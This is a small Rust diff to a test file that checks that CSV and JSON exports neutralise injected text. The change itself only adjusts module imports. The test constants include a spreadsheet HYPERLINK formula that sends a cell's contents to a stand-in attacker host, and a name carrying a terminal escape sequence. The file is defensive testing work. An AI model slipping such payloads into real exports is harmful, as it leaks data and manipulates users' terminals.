@@ -4,11 +4,9 @@
 //! text that does (an early-seal reason, opened for the auditor) is neutralised in CSV
 //! and JSON (OWASP CSV injection; control characters).
 
-mod common;
-
-use common::daemon::credentials;
-use common::tmux::demo_store;
-use common::*;
+use crate::common::daemon::credentials;
+use crate::common::tmux::demo_store;
+use crate::common::*;
 
 const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&B2,\"Click me\")";
 const ESCAPE: &str = "mallory\u{1b}[2Jx";
